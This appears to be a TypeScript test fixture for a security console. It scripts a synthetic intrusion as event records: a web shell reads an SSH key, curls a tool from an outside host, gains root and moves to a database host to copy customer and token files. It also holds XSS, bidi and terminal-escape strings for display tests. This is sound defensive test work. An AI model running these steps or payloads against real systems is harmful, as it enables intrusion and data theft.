/**
 * The story that the console's tests show: Apache on web-01 starts a shell, the shell takes a key and goes on to db-01 over SSH.
 * Answers have the shape of the Security Center's routes and are the same on every run. Test data only; nothing here is captured.
 */
import type {
	AlarmView,
	EventDetails,
	EventMark,
	EventRow,
	FleetAnswer,
	FleetLink,
	FleetNode,
	Hit,
	Hop,
	QuarantineView,
	TraceAnswer,
} from "../../workers/sc/api/answers.ts";
import { keyOf, Script, STORY_START_MS, TRACE_ID } from "./story-script.ts";

export { keyOf, TRACE_ID };

/** db-01's clock is ahead by this much; its aligned times are not. */
const DB_CLOCK_AHEAD_MS = 340;

const MASK = "‹masked:9c1f›";

/** A name as `nslookup` asks it and the answer it gets. */
const DNS_ASKED: EventDetails = { dnsName: "db-01.lab", dnsType: 1, protocol: 17, family: 2 };
const DNS_ANSWERED: EventDetails = {
	...DNS_ASKED,
	dnsResponseCode: 0,
	dnsAnswers: ["db-01.north.lab", "10.44.0.12"],
	marks: ["received"],
};
/** Where Apache's children run. */
const APACHE_PLACE: EventDetails = {
	cwd: "/srv/app",
	gid: 33,
	sid: 812,
	unit: "apache2.service",
	cgroup: "/system.slice/apache2.service",
	environment: ["PATH=/usr/bin:/bin", "HTTP_PROXY=‹masked:77aa›"],
	absent: ["tty: not a terminal"],
};
const TOOL_HASH = "5a11c0de".repeat(8);

/** A tool that the shell makes, runs without its file, and that does what system calls do not show. */
function runTool(web: Script): void {
	const path = "/tmp/.cache/tool";
	web.wait(700).fork(4350, 4315).exec(4350, "/usr/bin/curl", ["curl", "-so", path, "https://203.0.113.66/t"]);
	web.tell("socket", 4350, { family: 2, socketType: 1, protocol: 6 });
	web.event("connect", 4350, { local: "10.44.0.11:41880", remote: "203.0.113.66:443", result: 0 });
	web.event("file_create", 4350, { path, details: { marks: ["watched"], openFlags: 0o1101, mode: 0o100644 } });
	web.tell("file_chmod", 4350, { mode: 0o100755 }, { path });
	web.tell("file_link", 4350, {}, { path, pathTo: "/var/tmp/.tool" });
	web.tell("file_hash", 4350, { sha256: TOOL_HASH, blake3: "b3".repeat(32), fileBytes: "48128" }, { path });
	const sizes = { bytesSent: "517", bytesReceived: "48911" };
	web.tell("close", 4350, sizes, { local: "10.44.0.11:41880", remote: "203.0.113.66:443" }).exit(4350);
	web.wait(200).fork(4351, 4315).exec(4351, path, [path, "--listen"]);
	(web.events.at(-4) as EventRow).details = { marks: ["exe_deleted", "32_bit"], absent: ["sha256: deleted"] };
	web.tell("view_partial", 4351, {}, { cause: "io_uring" });
	web.tell("set_id", 4351, { oldUid: 33, oldEuid: 33, oldGid: 33, gid: 0, call: "setuid" }, { uid: 0, euid: 0 });
	web.tell("bind", 4351, { family: 10, socketType: 1, protocol: 6 }, { local: "[::]:4444" });
	web.tell("listen", 4351, { family: 10, socketType: 1, protocol: 6 }, { local: "[::]:4444" });
	web.tell("ptrace", 4351, { call: "ptrace", request: "16", targetPid: 812, target: keyOf("web-01", 812) });
	const header = { address: "55d0c0de1000", permissions: "r-xp", contentBytes: 4096, sha256: TOOL_HASH };
	web.tell("memory_header", 4351, header, { path });
	web.tell("tamper", 4351, { call: "kill", request: "9", targetPid: 377 }, { cause: "own_process" });
	web.fork(4352, 4351).exec(4352, "/usr/bin/id", ["id"]).exit(4352);
}

/** What the host told of itself while memory was short. */
function tireOut(web: Script): void {
	web.tell("fidelity", 0, { fidelityLevel: 2 }, { cause: "psi_memory" }).wait(2100);
	web.event("gap", 0, { cause: "shed: file (psi_memory)" });
	web.tell("fidelity", 0, { fidelityLevel: 0 }, { cause: "psi_memory" });
}

function webScript(): Script {
	const web = new Script("web-01", 0, STORY_START_MS);
	web.snapshot(812, 800, "apache2", ["/usr/sbin/apache2", "-k", "start"]).wait(2400);
	web.fork(4310, 812).exec(4310, "/usr/bin/dash", ["sh", "-c", MASK], true);
	(web.events[2] as EventRow).details = APACHE_PLACE;
	web.run(4311, 4310, ["nslookup", "db-01"], (script) => {
		script.tell("datagram", 4311, { family: 2, protocol: 17 }, { local: "10.44.0.11:50112", remote: "10.44.0.2:53" });
		script.tell("dns", 4311, DNS_ASKED, { remote: "10.44.0.2:53" });
		script.tell("dns", 4311, DNS_ANSWERED, { remote: "10.44.0.2:53" });
	});
	web.wait(30).run(4312, 4310, ["id"]).run(4313, 4310, ["uname", "-a"]).run(4314, 4310, ["ls", "-l", "/var/backups"]);
	web.wait(12).fork(4315, 4310).exec(4315, "/usr/bin/bash", ["bash", "-i"]);
	web.event("connect", 4315, { local: "10.44.0.11:41872", remote: "203.0.113.66:443", result: 0 });
	web.wait(5200).run(4320, 4315, ["cat", "/srv/deploy/.ssh/id_ed25519"], (script) => {
		const details: EventDetails = { openFlags: 0, mode: 0o100600, marks: ["credential"] };
		script.event("file_open", 4320, { path: "/srv/deploy/.ssh/id_ed25519", details });
	});
	web.wait(900).run(4321, 4315, ["mkdir", "/tmp/.cache"]);
	web.wait(300).run(4322, 4315, ["cp", "/srv/deploy/.ssh/id_ed25519", "/tmp/.cache/id.part"], (script) => {
		script.event("file_create", 4322, { path: "/tmp/.cache/id.part" });
	});
	web.run(4323, 4315, ["chmod", "600", "/tmp/.cache/id.part"]);
	web.wait(700).run(4324, 4315, ["mv", "/tmp/.cache/id.part", "/tmp/.cache/id"], (script) => {
		script.event("file_rename", 4324, { path: "/tmp/.cache/id.part", pathTo: "/tmp/.cache/id" });
	});
	runTool(web);
	tireOut(web);
	web.wait(200).fork(4330, 4315);
	web.exec(4330, "/usr/bin/ssh", ["ssh", "-i", MASK, "-T", "-o", "BatchMode=yes", "root@db-01", "bash"], true);
	web.event("connect", 4330, { local: "10.44.0.11:39164", remote: "10.44.0.12:22", result: 0 });
	return web;
}

function dbScript(startMs: number): Script {
	const db = new Script("db-01", DB_CLOCK_AHEAD_MS, startMs);
	db.snapshot(601, 1, "sshd", ["/usr/sbin/sshd", "-D"]).wait(1);
	db.event("accept", 601, { local: "10.44.0.12:22", remote: "10.44.0.11:39164" });
	db.wait(2).fork(2231, 601).wait(140).exec(2231, "/usr/sbin/sshd", ["sshd: root [priv]"]);
	db.fork(2232, 2231).wait(3).exec(2232, "/usr/bin/bash", ["bash"]);
	db.wait(2100).run(2240, 2232, ["id"]).run(2241, 2232, ["uname", "-n"]).run(2242, 2232, ["ls", "-l", "/srv/app"]);
	db.wait(1500).run(2243, 2232, ["touch", "/srv/app/.cache/lock"], (script) => {
		script.event("file_create", 2243, { path: "/srv/app/.cache/lock" });
	});
	for (const [index, file] of ["customers", "orders", "invoices", "tokens"].entries()) {
		const part = `/srv/app/.cache/${file}.part`;
		db.wait(2600).run(2250 + index * 4, 2232, ["cp", `/srv/app/${file}.csv`, part], (script) => {
			script.event("file_open", 2250 + index * 4, { path: `/srv/app/${file}.csv` });
			script.event("file_create", 2250 + index * 4, { path: part });
		});
		db.wait(120).run(2251 + index * 4, 2232, ["mv", part, `/srv/app/.cache/${file}.csv`], (script) => {
			const pathTo = `/srv/app/.cache/${file}.csv`;
			script.event("file_rename", 2251 + index * 4, { path: part, pathTo });
		});
		db.wait(60).run(2252 + index * 4, 2232, ["tail", "-n", "3", `/srv/app/.cache/${file}.csv`]);
		db.event("connect", 2232, { local: `10.44.0.12:${40100 + index}`, remote: "10.44.0.11:80", result: 0 });
		db.wait(340).run(2253 + index * 4, 2232, ["grep", "-q", "web-01", `/srv/app/.cache/page-${index}`]);
	}
	db.event("gap", 0, { cause: "ring buffer of cpu 1 was full" });
	db.wait(1900).run(2280, 2232, ["rm", "/srv/app/.cache/lock"], (script) => {
		script.event("file_unlink", 2280, { path: "/srv/app/.cache/lock" });
	});
	return db;
}

/** What a watched host may put into names, arguments and paths to fool a reader. */
export const HOSTILE = {
	name: "ba\u202esh",
	argument: '<img src=x onerror="document.title=1">\u001b[31m\u0007',
	path: `/tmp/\u2066in\u200bvoice\u202excod.exe\n${"A".repeat(9000)}`,
	/** As the agent writes what a name may not hold. */
	dnsName: "db\\032\\u{202e}moc.\u202elab\u001b]0;x\u0007.example",
	cause: "io_uring\u202e<b>\u001b[2J",
	cwd: `/srv/${"deep/".repeat(818)}`,
	reason: "routine\u0000check</span><script>document.title=2</script>",
};

function withHostile(events: EventRow[]): EventRow[] {
	return events.map((event) => {
		if (event.pid === 4330 && event.kind === "exec")
			return { ...event, name: HOSTILE.name, cmdline: ["ssh", HOSTILE.argument], isMasked: false };
		if (event.kind === "dns" && event.details !== null)
			return { ...event, details: { ...event.details, dnsName: HOSTILE.dnsName, dnsAnswers: [HOSTILE.dnsName] } };
		if (event.kind === "view_partial") return { ...event, cause: HOSTILE.cause };
		if (event.pid === 4310 && event.kind === "exec")
			return { ...event, details: { ...event.details, cwd: HOSTILE.cwd } };
		return event.pid === 4322 && event.kind === "file_create" ? { ...event, path: HOSTILE.path } : event;
	});
}

export interface Story {
	readonly events: EventRow[];
	readonly trace: TraceAnswer;
	readonly hits: Hit[];
	nodes: FleetNode[];
	readonly strangers: FleetAnswer["strangers"];
	readonly alarms: AlarmView[];
	readonly quarantine: QuarantineView[];
}

function quarantineOf(isHostile: boolean): QuarantineView[] {
	const place = { agent: "web-01", lane: "bulk", stream: "6f2a91c04b7de835", seq: 1041 } as const;
	return [
		{
			...{
				...place,
				id: 2,
				hop: "px-1",
				cause: "batch_signature_invalid",
				atMs: STORY_START_MS + 80_000,
				bytesKept: 20_480,
			},
			detail: "the signature is not the agent's",
		},
		{
			...{
				agent: "db-01",
				lane: "",
				stream: "",
				seq: null,
				id: 1,
				hop: isHostile ? `px-1/${HOSTILE.name}` : "px-1/px-2",
			},
			...{ cause: isHostile ? HOSTILE.argument : "cbor_truncated", atMs: STORY_START_MS + 70_000, bytesKept: 17 },
			detail: isHostile ? HOSTILE.path : "the frame ends in the middle",
		},
	];
}

function alarmsOf(isHostile: boolean): AlarmView[] {
	const at = { firstAtMs: STORY_START_MS + 30_000, lastAtMs: STORY_START_MS + 90_000, clearedAtMs: null };
	const tool = isHostile ? HOSTILE.name : "tool";
	return [
		{
			...{ ...at, id: 3, agent: "web-01", code: "sensor_tampered", times: 1, hasEvidence: false },
			detail: `${tool} (4351) acted on the collector: kill, own_process.`,
		},
		{
			...{ ...at, id: 2, agent: "db-01", code: "trace_not_commanded", times: 2000, hasEvidence: false },
			detail: `db-01 sent events under trace ${isHostile ? HOSTILE.argument : "T-20261122-000000"}, which nobody ever started.`,
		},
		{
			...{ ...at, id: 1, agent: "web-01", code: "batch_forked", times: 1, hasEvidence: true },
			detail: "Another batch 6f2a91c04b7de835/41 of web-01 is stored already.",
		},
		{
			...{ ...at, id: 4, agent: "db-01", code: "agent_silent", times: 2, hasEvidence: false },
			clearedAtMs: STORY_START_MS + 120_000,
			detail: "db-01 has said nothing since 2026-11-22 12:31:04 UTC; its proxy px-north is heard.",
		},
	];
}

const LOOK_BACK: EventMark = "look_back";

/** What a host did before its agent took the command comes from the agent's memory. */
function fromMemory(events: readonly EventRow[], trace: TraceAnswer): EventRow[] {
	const begun = new Map(trace.commands.map(({ agent, answeredAtMs }) => [agent, answeredAtMs ?? 0]));
	return events.map((event) => {
		if (event.alignedTimeMs >= (begun.get(event.agent) ?? 0) || event.pid === null) return event;
		const marks = [...(event.details?.marks ?? []), LOOK_BACK];
		return { ...event, details: { ...event.details, marks } };
	});
}

function hopOf(web: Script, db: Script, isFollowed: boolean): Hop {
	const connect = web.events.find(({ pid, kind }) => pid === 4330 && kind === "connect");
	return {
		id: "c0ffee01",
		from: { agent: "web-01", process: keyOf("web-01", 4330), pid: 4330, name: "ssh" },
		to: { agent: "db-01", process: keyOf("db-01", 601), pid: 601, name: "sshd" },
		followTarget: { agent: "db-01", process: keyOf("db-01", 2231), pid: 2231, name: "sshd" },
		local: "10.44.0.11:39164",
		remote: "10.44.0.12:22",
		timeMs: connect?.alignedTimeMs ?? db.nowMs,
		confidence: 0.96,
		reasons: [
			"the same four addresses and ports, mirrored",
			"accepted 4 ms after the connect, clocks aligned to ±12 ms",
			"one accept only matches",
		],
		isFollowed,
	};
}

function hitsOf(web: Script): Hit[] {
	const exec = (pid: number) => web.events.find((event) => event.pid === pid && event.kind === "exec")?.timeMs ?? 0;
	const apache = { process: keyOf("web-01", 812), pid: 812, name: "apache2", exe: "/usr/sbin/apache2" };
	const shell = { process: keyOf("web-01", 4310), pid: 4310, name: "sh", exe: "/usr/bin/dash" };
	const bash = { process: keyOf("web-01", 4315), pid: 4315, name: "bash", exe: "/usr/bin/bash" };
	const base = { agent: "web-01", traceId: null };
	return [
		{
			...base,
			id: 12,
			ruleId: "de-0007",
			ruleTitle: "SSH client started below a web server",
			severity: "medium",
			process: keyOf("web-01", 4330),
			pid: 4330,
			summary: "bash → ssh",
			eventTimeMs: exec(4330),
			latencyMs: 61,
			ancestry: [bash, shell, apache],
		},
		{
			...base,
			id: 11,
			ruleId: "de-0001",
			ruleTitle: "Web server started an interactive shell",
			severity: "high",
			process: bash.process,
			pid: 4315,
			summary: "apache2 → bash",
			eventTimeMs: exec(4315),
			latencyMs: 43,
			ancestry: [shell, apache],
		},
		{
			...base,
			id: 10,
			ruleId: "de-0019",
			ruleTitle: "System discovery in quick succession",
			severity: "low",
			process: shell.process,
			pid: 4310,
			summary: "sh → id, uname, ls",
			eventTimeMs: exec(4312),
			latencyMs: 1204,
			ancestry: [apache],
		},
	];
}

const NETLINK_MISSING = [
	"arguments of lives under 10 ms",
	"file events",
	"credential opens",
	"dns names",
	"datagrams",
	"bind and listen",
	"set_id",
	"ptrace",
	"memory headers",
	"hashes of what has ended",
	"exact connection times",
];

const NO_LINK: Omit<FleetLink, "toldAtMs"> = {
	to: "",
	sinceMs: null,
	lanes: [],
	unackedBytes: null,
	windowBytes: null,
	roundTripMs: null,
	reconnects: 0,
	lastError: null,
	refusedBatches: 0,
	refusedFor: null,
};

const MIB = 1024 * 1024;

/** A proxy of a plant whose line is thin: bulk has waited, alerts go. */
function plantLink(nowMs: number): FleetLink {
	const lanes: FleetLink["lanes"] = [
		{ lane: "alert", batches: 2, bytes: 9000, oldestAgeMs: 900 },
		{ lane: "bulk", batches: 12_400, bytes: 1200 * MIB, oldestAgeMs: 200_000 },
	];
	const window = { unackedBytes: 6 * MIB, windowBytes: 8 * MIB };
	const last = { reconnects: 14, lastError: "silent: nothing was heard", refusedBatches: 0, refusedFor: null };
	return { to: "px-north", toldAtMs: nowMs, sinceMs: nowMs - 60_000, lanes, ...window, roundTripMs: 640, ...last };
}

function nodesOf(nowMs: number, isHostile: boolean): FleetNode[] {
	const node = (id: string, fields: Partial<FleetNode>): FleetNode => ({
		id,
		role: "agent",
		isUp: true,
		state: "alive",
		stateSinceMs: nowMs - 1800,
		hiddenBy: "",
		link: { ...NO_LINK, toldAtMs: nowMs - 1800, to: fields.via ?? "px-north", roundTripMs: 2 },
		hostName: id,
		siteTag: "north",
		tier: "ebpf",
		missing: "",
		cause: "",
		via: "px-north",
		lastHeardMs: nowMs - 1800,
		behindMs: 0,
		outboxBytes: 2_400_000,
		clockOffsetMs: 4,
		clockBoundMs: 3,
		fidelityLevel: 0,
		fidelityCause: "",
		fidelityMs: 0,
		rssBytes: 91_000_000,
		eventCount: 184_220,
		gapCount: 0,
		storedBatches: 9201,
		softwareVersion: "0.1.0",
		addresses: ["10.44.0.11"],
		...fields,
	});
	return [
		node("px-north", {
			...{ role: "px", tier: "", via: "", siteTag: "", eventCount: 0, rssBytes: 0, outboxBytes: 0, addresses: [] },
			link: {
				...NO_LINK,
				toldAtMs: nowMs - 1800,
				sinceMs: nowMs - 86_400_000,
				unackedBytes: 90_000,
				windowBytes: 8 * MIB,
				roundTripMs: 1,
			},
		}),
		node("px-plant", {
			...{ role: "px", tier: "", via: "px-north", siteTag: "", eventCount: 0, rssBytes: 0, addresses: [] },
			...{ behindMs: 200_000, outboxBytes: 1200 * MIB, clockOffsetMs: -38, clockBoundMs: 641 },
			link: isHostile ? { ...plantLink(nowMs), lastError: HOSTILE.cause } : plantLink(nowMs),
		}),
		node("web-01", { fidelityLevel: 2, fidelityCause: "psi_memory", fidelityMs: nowMs - 42_000 }),
		node("db-01", { clockOffsetMs: DB_CLOCK_AHEAD_MS, gapCount: 1, addresses: ["10.44.0.12"] }),
		node("plc-gw-03", {
			tier: "proc",
			missing: "processes that live shorter than 200 ms, file events, exact connection times",
			cause: "kernel 4.4 has no BTF",
			siteTag: "plant",
			via: "px-plant",
			behindMs: 64_000,
			outboxBytes: 41_000_000,
			clockBoundMs: null,
			addresses: ["10.60.3.7"],
		}),
		node("lab-09", {
			isUp: false,
			state: "silent",
			stateSinceMs: nowMs - 5_400_000,
			lastHeardMs: nowMs - 5_400_000,
			tier: "netlink",
			missing: NETLINK_MISSING.join(","),
			cause: "the kernel refuses BPF: lockdown is in confidentiality mode",
		}),
	];
}

/** Every link well. */
export function calmed(nodes: readonly FleetNode[]): FleetNode[] {
	return nodes.map((node) => ({
		...node,
		...{ isUp: true, state: "alive" as const, behindMs: 0, link: { ...node.link, lanes: [] } },
	}));
}

/** The top proxy has fallen silent, and what is behind it is not known. */
export function cutOff(nodes: readonly FleetNode[], nowMs: number): FleetNode[] {
	const stateSinceMs = nowMs - 185_000;
	return nodes.map((node) => {
		const seen = { ...node, isUp: false, stateSinceMs, lastHeardMs: stateSinceMs };
		return node.id === "px-north"
			? { ...seen, state: "silent" as const }
			: { ...seen, state: "unknown" as const, hiddenBy: "px-north" };
	});
}

function strangersOf(isHostile: boolean, nowMs: number): FleetAnswer["strangers"] {
	if (!isHostile) return [];
	return [{ node: `spiffe://north-lab/agent/${HOSTILE.name}`, protocol: 2, at: "px-north", atMs: nowMs - 3000 }];
}

/** The whole story; `isFollowed: false` is the moment before anyone followed the hop. */
export function tellStory(options: { isFollowed: boolean; isHostile: boolean; nowMs: number }): Story {
	const web = webScript();
	const db = dbScript(web.nowMs + 4);
	const told = [...web.events, ...(options.isFollowed ? db.events : [])]
		.sort((a, b) => a.alignedTimeMs - b.alignedTimeMs)
		.map((event, index) => ({ ...event, row: index + 1 }));
	const gap = db.events.find(({ kind }) => kind === "gap");
	const shed = web.events.find(({ kind }) => kind === "gap")?.alignedTimeMs ?? 0;
	const gaps = options.isFollowed
		? [
				{
					agent: "db-01",
					scope: "cpu" as const,
					from: "48110",
					to: "48133",
					cause: "ring buffer of cpu 1 was full",
					atMs: gap?.alignedTimeMs ?? 0,
					sinceMs: null,
				},
				{
					agent: "web-01",
					scope: "stream" as const,
					from: "7",
					to: "8",
					cause: "the outbox lost two records to a flipped byte",
					atMs: STORY_START_MS + 7100,
					sinceMs: null,
				},
				{
					agent: "web-01",
					scope: "count" as const,
					from: "1",
					to: "311",
					cause: "shed: file (psi_memory)",
					atMs: shed,
					sinceMs: shed - 2100,
				},
			]
		: [];
	const hop = hopOf(web, db, options.isFollowed);
	const reason = options.isHostile ? HOSTILE.reason : "Web server started an interactive shell";
	const command = {
		act: "start" as const,
		initiatedBy: "ana",
		approvedBy: ["ben"],
		approvalsNeeded: 1,
		state: "accepted" as const,
		cause: "",
		expiresAtMs: STORY_START_MS + 900_000,
		maxDurationSecs: 1800,
		payload: "",
	};
	const trace: TraceAnswer = {
		trace: {
			id: TRACE_ID,
			state: "running",
			reason,
			initiatedBy: "ana",
			startedAtMs: STORY_START_MS + 3000,
			eventCount: told.length,
			hosts: options.isFollowed ? ["web-01", "db-01"] : ["web-01"],
			hitId: 11,
		},
		commands: [
			{
				...command,
				commandId: "a1".repeat(16),
				agent: "web-01",
				targetProcess: keyOf("web-01", 812),
				targetPid: 812,
				sentAtMs: STORY_START_MS + 3100,
				answeredAtMs: STORY_START_MS + 3118,
				parentLink: null,
			},
			...(options.isFollowed
				? [
						{
							...command,
							commandId: "b2".repeat(16),
							agent: "db-01",
							targetProcess: keyOf("db-01", 2231),
							targetPid: 2231,
							sentAtMs: STORY_START_MS + 15_000,
							answeredAtMs: STORY_START_MS + 15_021,
							parentLink: { agent: "web-01", process: keyOf("web-01", 4330) },
						},
					]
				: []),
		],
		hosts: [
			{ agent: "web-01", hostName: "web-01", clockOffsetMs: 0, seal: null },
			...(options.isFollowed
				? [{ agent: "db-01", hostName: "db-01", clockOffsetMs: DB_CLOCK_AHEAD_MS, seal: null }]
				: []),
		],
		hops: [hop],
		completeness: { isComplete: gaps.length === 0, gaps },
	};
	const marked = fromMemory(told, trace);
	const events = options.isHostile ? withHostile(marked) : marked;
	return {
		events,
		trace,
		hits: hitsOf(web),
		nodes: nodesOf(options.nowMs, options.isHostile),
		strangers: strangersOf(options.isHostile, options.nowMs),
		alarms: alarmsOf(options.isHostile),
		quarantine: quarantineOf(options.isHostile),
	};
}
